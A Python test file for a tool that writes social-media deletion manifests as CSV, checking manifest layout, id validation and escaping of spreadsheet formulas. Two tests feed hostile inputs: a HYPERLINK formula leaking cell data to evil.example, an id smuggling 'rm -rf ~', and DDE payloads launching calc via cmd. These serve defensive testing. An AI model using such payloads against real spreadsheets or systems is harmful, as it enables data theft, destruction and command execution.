"""Manifests: one CSV per platform and action, holding only what that action acts on,
every id in the platform's own format, no cell a spreadsheet formula; the steps name
them only when they are written."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from footprint.exposure.actions import BY_NAME, manifest_kinds
from footprint.exposure.posture import PostureCollector
from footprint.model import Ref
from footprint.pipeline import Reading, ScanOptions, ScanResult, SourceSummary, assess, scan
from footprint.signals import Signal, merge
from tests.exposure.people import signal
from tests.personas import ORGS, export_paths


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture(scope="module")
def police() -> ScanResult:
    options = ScanOptions(org=ORGS["police-officer"], high_risk=True, manifests=True)
    return scan(export_paths("police-officer"), options)


def test_one_manifest_per_platform_and_action(police: ScanResult) -> None:
    files = police.manifests
    assert {"x-delete-posts.csv", "x-remove-likes.csv"} <= set(files)
    by_manifest = manifest_kinds()
    kinds = {s.id: s.item_kind for s in police.signals}
    for name, text in files.items():
        platform, _, action = name.removesuffix(".csv").partition("-")
        row = by_manifest[action]
        found = rows(text)
        assert found and set(found[0]) == {"id", "date", "url", "kind", "step"}
        assert {r["kind"] for r in found} <= row.lists, name
        steps = [s for s in police.plan if s.manifest == name]
        assert steps and all(s.platform == platform and s.action == row.name for s in steps)
        listed = {i for s in steps for i in s.signals if kinds[i] in row.lists}
        assert len(found) == len(
            {next(x for x in police.signals if x.id == i).source.item for i in listed}
        )
    likes = rows(files["x-remove-likes.csv"])
    posts = rows(files["x-delete-posts.csv"])
    assert {r["kind"] for r in likes} == {"like"}
    assert "like" not in {r["kind"] for r in posts}
    assert all(r["id"].isdigit() for r in likes + posts)


def test_steps_name_their_manifest_only_when_it_is_written(police: ScanResult) -> None:
    named = [s for s in police.plan if s.manifest]
    assert named
    for step in named:
        assert step.manifest in step.instructions
        assert ("bulk-deletion tool" in step.instructions) == BY_NAME[step.action].bulk
    plain = scan(
        export_paths("police-officer"), ScanOptions(org=ORGS["police-officer"], high_risk=True)
    )
    assert plain.manifests == {}
    for step in plain.plan:
        assert step.manifest is None and ".csv" not in step.instructions


def planned(signals: list[Signal]) -> ScanResult:
    reading = Reading()
    for platform in sorted({s.platform for s in signals}):
        reading.sources.append(SourceSummary(platform, platform, {}, (), 1))
    return assess(reading, merge(signals), PostureCollector(), None, ScanOptions(manifests=True))


def test_ids_not_in_the_platform_format_are_reported_not_written() -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "12345 ; rm -rf ~",
        "123abc",
        "-1",
        "1e5",
    ]
    good = ["1626870384594934159", "1598243001296315565"]
    signals = [signal("x", item, date="2023-02-18T19:45:15Z") for item in good + hostile]
    signals.append(
        signal("bluesky", "at://did:plc:abc123/app.bsky.feed.post/3kly6hoz7is2v", account="b")
    )
    signals.append(signal("bluesky", "=1+1", account="b"))
    result = planned(signals)
    x = rows(result.manifests["x-delete-posts.csv"])
    assert sorted(r["id"] for r in x) == sorted(good)
    bsky = rows(result.manifests["bluesky-delete-posts.csv"])
    assert [r["id"] for r in bsky] == ["at://did:plc:abc123/app.bsky.feed.post/3kly6hoz7is2v"]
    written = {r["id"] for text in result.manifests.values() for r in rows(text)}
    assert not written & {*hostile, "=1+1"}
    left_out = [p for p in result.problems if "is not a" in p]
    assert len(left_out) == len(hostile) + 1
    assert any("x-delete-posts.csv" in p and "'123abc' is not a x id" in p for p in left_out)
    assert result.exit_code == 1


def test_no_cell_is_a_formula() -> None:
    source = Ref(
        "x",
        "data/tweets.js",
        "1626870384594934159",
        "text",
        "public",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    )
    sig = replace(signal("x", "1"), source=source)
    result = planned([sig])
    (row,) = rows(result.manifests["x-delete-posts.csv"])
    assert row["date"] == "'=cmd|' /C calc'!A0"
    assert row["url"].startswith("'@SUM")
    assert row["id"] == "1626870384594934159"
